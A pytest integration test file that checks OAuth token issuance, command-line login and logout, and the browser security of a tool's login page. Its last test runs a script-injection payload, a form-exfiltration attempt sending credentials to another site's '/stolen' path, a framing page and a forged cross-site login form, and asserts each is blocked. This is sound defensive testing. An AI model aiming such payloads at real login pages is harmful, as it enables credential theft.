"""Programs and people get tokens from a running proposer: by clients that others wrote, by `dissonance login`, and in a
real browser."""

from __future__ import annotations

import os
import ssl
import subprocess
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from html import escape
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import urlsplit

import jwt
import msgspec
import pytest
import requests
from authlib.integrations.requests_client import OAuth2Session
from authlib.oauth2.rfc7523 import PrivateKeyJWT
from joserfc.jwk import ECKey

from dissonance.adapters.clock import SystemRandomness
from dissonance.adapters.embedded.addresses import EngineAddresses
from dissonance.adapters.keys.kept_tokens import KeptTokens
from dissonance.adapters.oidc.login import IssuerSide
from dissonance.cli import kept_login, run
from dissonance.errors import Unauthenticated
from dissonance.security.login_request import new_login, refresh_form
from dissonance.security.oauth_clients import COMMAND_LINE
from dissonance.settings import Settings
from support import browser, chromium
from support.other_site import RESOLVED, OtherSite

REDIRECT = "http://127.0.0.1:40123/"
WINDOWS = "/v1/tasks/none/windows"
"""A route that needs a token; that there is no such task is told to whoever may know."""


class Installation(NamedTuple):
    folder: Path
    url: str
    authority: str

    def described(self) -> dict[str, Any]:
        address = f"{self.url}/.well-known/oauth-authorization-server"
        found: dict[str, Any] = requests.get(address, verify=self.authority, timeout=60).json()
        return found

    @property
    def key(self) -> str:
        return chromium.key_of(self.url, self.authority)

    def status(self, token: str, path: str) -> int:
        headers = {"authorization": f"Bearer {token}"}
        return requests.get(self.url + path, headers=headers, verify=self.authority, timeout=60).status_code


@pytest.fixture(scope="module")
def installation(all_engines: EngineAddresses, all_engines_folder: Path) -> Iterator[Installation]:
    process = subprocess.Popen(
        [sys.executable, "-m", "dissonance", "run", "proposer", "--data", str(all_engines_folder), "--json"],
        stdout=subprocess.PIPE,
        text=True,
    )
    assert process.stdout is not None
    with process, process.stdout:
        try:
            told = msgspec.json.decode(process.stdout.readline())
            yield Installation(all_engines_folder, told["url"], str(all_engines_folder / "keys/tls/ca.pem"))
        finally:
            process.terminate()
            process.wait(timeout=60)


def command(capsys: pytest.CaptureFixture[str], folder: Path, *arguments: str) -> Any:
    assert run([*arguments, "--data", str(folder), "--json"]) == 0
    return msgspec.json.decode(capsys.readouterr().out)


def test_a_library_of_others_gets_a_token_for_a_secret_until_the_client_is_removed(
    installation: Installation, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = installation.folder
    made = command(capsys, folder, "token", "client", "create", "--name", "reader", "--grant", "viewer")
    session = OAuth2Session(made["id"], made["secret"], token_endpoint_auth_method="client_secret_basic")
    token = session.fetch_token(
        installation.described()["token_endpoint"], grant_type="client_credentials", verify=installation.authority
    )
    assert installation.status(token["access_token"], WINDOWS) == 404
    assert installation.status(token["access_token"], "/config") == 403

    command(capsys, folder, "token", "client", "remove", made["id"])
    assert made["id"] not in [each["id"] for each in command(capsys, folder, "token", "client", "list")]
    while installation.status(token["access_token"], WINDOWS) != 401:
        pass


def test_a_library_of_others_gets_a_token_for_somebody_who_logs_in(
    installation: Installation, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = installation.folder
    made = command(capsys, folder, "user", "add", "grace", "--grant", "viewer", "--generate")
    described = installation.described()
    session = OAuth2Session(
        COMMAND_LINE.client_id,
        redirect_uri=REDIRECT,
        scope="windows:read",
        code_challenge_method="S256",
        token_endpoint_auth_method="none",
    )
    verifier = "v" * 64
    address, state = session.create_authorization_url(described["authorization_endpoint"], code_verifier=verifier)
    trust = ssl.create_default_context(cafile=installation.authority)
    back = browser.log_in(address, made["name"], made["password"], trust)
    token = session.fetch_token(
        described["token_endpoint"],
        authorization_response=back,
        state=state,
        code_verifier=verifier,
        verify=installation.authority,
    )
    assert token["scope"] == "windows:read"
    assert installation.status(token["access_token"], WINDOWS) == 404

    command(capsys, folder, "user", "remove", "grace")
    while installation.status(token["access_token"], WINDOWS) != 401:
        pass


def test_a_library_of_others_gets_a_token_for_what_it_signs(
    installation: Installation, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder, key = installation.folder, ECKey.generate_key("P-256")
    (tmp_path / "public.pem").write_bytes(key.as_pem(private=False))
    options = ["--name", "signer", "--grant", "viewer", "--public-key", str(tmp_path / "public.pem")]
    made = command(capsys, folder, "token", "client", "create", *options)
    assert (made["secret"], made["proof"]) == ("", "private_key_jwt")
    described = installation.described()
    session = OAuth2Session(made["id"], key, token_endpoint_auth_method="private_key_jwt")
    session.register_client_auth_method(PrivateKeyJWT(described["issuer"], alg="ES256"))
    token = session.fetch_token(
        described["token_endpoint"], grant_type="client_credentials", verify=installation.authority
    )
    assert installation.status(token["access_token"], WINDOWS) == 404
    command(capsys, folder, "token", "client", "remove", made["id"])


@pytest.fixture
def user(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Whose keyring is none, and whose configuration is this folder."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.fail.Keyring")
    return tmp_path


@contextmanager
def logging_in(installation: Installation, *options: str, **surroundings: str) -> Iterator[subprocess.Popen[str]]:
    arguments = ["login", installation.url, "--data", str(installation.folder), "--json", *options]
    process = subprocess.Popen(
        [sys.executable, "-m", "dissonance", *arguments],
        env={**os.environ, **surroundings},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    with process:
        try:
            yield process
        finally:
            process.kill()


def test_commands_are_those_of_who_logged_in_until_they_log_out(
    installation: Installation, user: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = installation.folder
    made = command(capsys, folder, "user", "add", "ada", "--grant", "viewer", "--generate")
    surroundings = {
        "BROWSER": f"{sys.executable} {browser.__file__} %s",
        "TEST_CA": installation.authority,
        "TEST_NAME": "ada",
        "TEST_PASSWORD": made["password"],
    }
    with logging_in(installation, **surroundings) as process:
        output, errors = process.communicate(timeout=100)
    assert process.returncode == 0, errors
    told = msgspec.json.decode(output)
    assert (told["name"], told["kept_in"]) == ("ada", str(user / "dissonance"))
    assert "models:read" in told["permissions"]
    assert f"{installation.url}/oauth/authorize?" in errors

    assert run(["task", "list", "--data", str(folder)]) == 0
    assert run(["user", "list", "--data", str(folder)]) == 4

    settings, tokens = Settings(data=str(folder)), KeptTokens(user / "dissonance", None)
    kept_for = kept_login.installation(settings)
    expired = jwt.encode({"exp": 0}, "k" * 32)
    tokens.keep(kept_for, msgspec.structs.replace(tokens.login(kept_for), token=expired))
    with ThreadPoolExecutor(4) as commands:
        renewed = set(commands.map(lambda _: kept_login.current_token(settings, tokens, 1.0), range(4)))
    assert len(renewed) == 1
    assert expired not in renewed
    assert run(["task", "list", "--data", str(folder)]) == 0
    assert run(["user", "list", "--data", str(folder)]) == 4

    last = tokens.login(kept_for)
    capsys.readouterr()
    assert command(capsys, folder, "logout") == {"was": True, "ended": True}
    issuer = IssuerSide(installation.url, ssl.create_default_context(cafile=installation.authority))
    with pytest.raises(Unauthenticated):
        issuer.change(issuer.discover().token_endpoint, refresh_form(last.refresh_token))
    while installation.status(last.token, WINDOWS) != 401:
        pass
    assert run(["user", "list", "--data", str(folder)]) == 0


def test_somebody_logs_in_with_a_real_browser(
    installation: Installation, user: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    made = command(capsys, installation.folder, "user", "add", "lovelace", "--grant", "viewer", "--generate")
    with (
        chromium.opened(user / "chromium", installation.key) as page,
        logging_in(installation, "--no-browser") as process,
    ):
        assert process.stderr is not None
        address = next(line.strip() for line in process.stderr if line.startswith("https:"))
        assert "dissonance-command-line asks to act for you" in page.open(address)

        page.fill("name", "lovelace")
        page.fill("password", "not what it is")
        told = page.enter()
        assert "Name or password is wrong" in told
        assert "dissonance user password" in told
        assert (page.field("name"), page.field("password")) == ("lovelace", "")

        page.fill("password", made["password"])
        assert "go on at the terminal" in page.enter()
        back = urlsplit(page.address)
        assert (back.scheme, back.hostname) == ("http", "127.0.0.1")
        output, _ = process.communicate(timeout=60)
    assert process.returncode == 0
    assert msgspec.json.decode(output)["name"] == "lovelace"
    assert run(["task", "list", "--data", str(installation.folder)]) == 0
    assert run(["logout", "--data", str(installation.folder)]) == 0


INJECTED = """(() => {
  const script = document.createElement("script")
  script.textContent = "document.title = 'taken over'"
  document.body.append(script)
  return document.title
})()"""
ASKING = "fetch('/health/live').then(() => 'it was asked', () => 'refused')"
SENDING = """new Promise(told => {
  addEventListener("securitypolicyviolation", refused => told(refused.effectiveDirective))
  document.forms[0].action = "%s"
  document.forms[0].submit()
})"""
FORGED = """<form method="post" action="{address}"><input name="form" value="{proof}"><input name="name" value="hopper">
<input name="password" value="{password}"><input name="answer" value="log-in"></form>"""


def test_a_real_browser_lets_nobody_else_at_the_page(
    installation: Installation, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    made = command(capsys, installation.folder, "user", "add", "hopper", "--grant", "viewer", "--generate")
    endpoint = installation.described()["authorization_endpoint"]
    address = new_login(installation.url, endpoint, REDIRECT, "", SystemRandomness()).address
    with OtherSite() as site, chromium.opened(tmp_path, installation.key, RESOLVED) as page:
        page.open(address)
        headers = page.headers(address)
        assert headers["strict-transport-security"] == "max-age=31536000"
        assert headers["cache-control"] == "no-store"
        [cookie] = page.ask("Network.getCookies")["cookies"]
        assert (cookie["httpOnly"], cookie["secure"], cookie["sameSite"]) == (True, True, "Strict")
        assert (cookie["domain"], cookie["path"]) == ("127.0.0.1", "/")
        assert page.run("document.cookie") == ""

        assert page.run(INJECTED) == "Log in to Dissonance"
        assert page.run(ASKING) == "refused"
        proof = page.run("document.forms[0].elements.form.value")
        assert page.run(SENDING % site.address("/stolen")) == "form-action"

        site.pages["/frame"] = f'<iframe src="{escape(address)}"></iframe>'
        page.open(site.address("/frame"))
        page.told("Log.entryAdded", lambda told: "frame-ancestors 'none'" in told["entry"]["text"])

        # What it cannot know: that is not what it is refused for, but that the browser keeps the cookie to itself.
        forged = FORGED.format(address=escape(address), proof=proof, password=escape(made["password"]))
        site.pages["/forged"] = forged
        page.open(site.address("/forged"))
        page.run("document.forms[0].submit()")
        page.wait("Page.loadEventFired")
        assert (page.address, "not from here" in page.text) == (address, True)
        assert "/stolen" not in site.visits

        named = address.replace("127.0.0.1", "dissonance.test", 1)
        assert "Log in to Dissonance" not in page.open(named.replace("https:", "http:"))
        page.open(named)
        assert "Log in to Dissonance" in page.open(named.replace("https:", "http:"))
        assert page.address == named
